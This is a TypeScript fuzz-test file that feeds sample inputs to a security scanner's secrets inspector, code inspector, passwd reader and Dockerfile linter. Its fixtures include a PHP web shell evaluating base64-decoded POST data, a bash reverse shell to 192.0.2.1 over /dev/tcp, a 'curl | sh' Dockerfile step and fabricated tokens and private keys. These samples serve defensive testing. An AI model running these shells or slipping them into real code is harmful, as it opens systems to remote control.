/** Targets: the search for secrets, what hygiene looks into, and Dockerfiles. */
import { recordOf } from "../../src/domain/json-record.ts";
import { codeInspector } from "../../src/hygiene/code-inspector.ts";
import { readAccounts } from "../../src/hygiene/accounts.ts";
import { lintDockerfile } from "../../src/hygiene/dockerfile/lint.ts";
import { isSecretName, secretTitlesIn } from "../../src/secrets/configuration.ts";
import { readFileSecrets, secretInspector } from "../../src/secrets/inspector.ts";
import { viewOf } from "../helpers/ecosystem-sample.ts";
import { elfFile } from "../helpers/elf-file.ts";
import { wantedFile } from "../helpers/wanted-file.ts";
import { expect, type FuzzTarget } from "./fuzz-target.ts";

// Put together while it runs, so that no scanner takes them for real ones.
const token = ["gh", "p_", "16C7e42F292c6912E7710c838347Ae178B4a"].join("");
const key = `-----BEGIN ${["RSA", "PRIVATE", "KEY"].join(" ")}-----\n${"MIIEow".repeat(40)}\n-----END RSA KEY-----\n`;

const secretTarget: FuzzTarget = {
  name: "secrets",
  samples: [
    `export GITHUB_TOKEN=${token}\npassword: "${"hunter2".split("").join("x")}"\n`,
    key,
    `[default]\naws_secret_access_key = ${"wJalrXUtnFEMI/K7MDENG/bPxRfiCY".concat("EXAMPLEKEY")}\n`,
    `postgres://app:${"s3cr3tv4lue"}@db.example.org/app\n{"auth":{"token":"${token}"}}\n`,
  ].map((text) => Buffer.from(text)),
  check(input) {
    for (const path of ["app/.env", "root/.aws/credentials", "etc/app.json"]) {
      const head = { path, sizeBytes: input.length, mode: 0o644 };
      const value = secretInspector.inspect(head, viewOf(input));
      if (value === null) continue;
      const found = { by: secretInspector.id, value, ...head, layer: null, layerIndex: null };
      const read = readFileSecrets(found);
      expect(read !== null, "what the search says is not what is read of it");
      const { length } = input.toString("latin1").split("\n");
      for (const { line, shown } of read?.secrets ?? []) {
        expect(line >= 1 && line <= length, "a secret stands on no line of its file");
        expect([...shown].length <= 5, "more than four signs of a secret are shown");
      }
    }
    secretTitlesIn(input.toString("utf8"));
  },
};

const codeTarget: FuzzTarget = {
  name: "code",
  samples: [
    elfFile({ ".text": "code", UPX0: "UPX!" }),
    Buffer.from(`<?php ${["ev", "al"].join("")}(base64_decode($_POST["x"])); ?>\n`),
    Buffer.from("#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
    Buffer.from('{"name":"a","scripts":{"postinstall":"node x.js"}}'),
  ],
  check(input) {
    for (const path of ["srv/a.php", "usr/bin/a", "app/node_modules/a/package.json", "a.sh"]) {
      const head = { path, sizeBytes: input.length, mode: 0o755 };
      if (!codeInspector.wants(head)) continue;
      const value = codeInspector.inspect(head, viewOf(input));
      expect(value === null || Array.isArray(value) || recordOf(value) !== null, "an odd answer");
    }
  },
};

const accountTarget: FuzzTarget = {
  name: "accounts",
  samples: [Buffer.from("root:x:0:0:root:/root:/bin/sh\r\n#c\n+::\nnobody:!:65534:65534:::\n")],
  check(input) {
    for (const { id } of readAccounts(wantedFile("etc/passwd", input))) {
      expect(id === null || Number.isSafeInteger(id), "an id is no number");
    }
  },
};

const lintTarget: FuzzTarget = {
  name: "lint of a dockerfile",
  samples: [
    "# syntax=docker/dockerfile:1\n# escape=`\nARG V=1\nFROM --platform=linux/amd64 debian:12 AS b\nRUN <<EOF\napt-get install x\nEOF\n",
    'FROM a AS b\nENV PASSWORD=x A="b c"\nADD https://x/y /z\nRUN sudo apt-get update && \\\n  curl x | sh\nCOPY --from=b /a /b\nHEALTHCHECK CMD x\nUSER 1\nEXPOSE 22/tcp\nCMD ["a"]\n',
  ].map((text) => Buffer.from(text)),
  check(input) {
    const text = input.toString("utf8");
    const { findings } = lintDockerfile(text, {
      file: "Dockerfile",
      findSecrets: secretTitlesIn,
      isSecretName,
    });
    const lines = text.split("\n").length;
    for (const { line } of findings) {
      expect(line === null || (line >= 1 && line <= lines), "a finding stands on no line of its file");
    }
  },
};

export const examinationTargets: readonly FuzzTarget[] = [
  secretTarget,
  codeTarget,
  accountTarget,
  lintTarget,
];
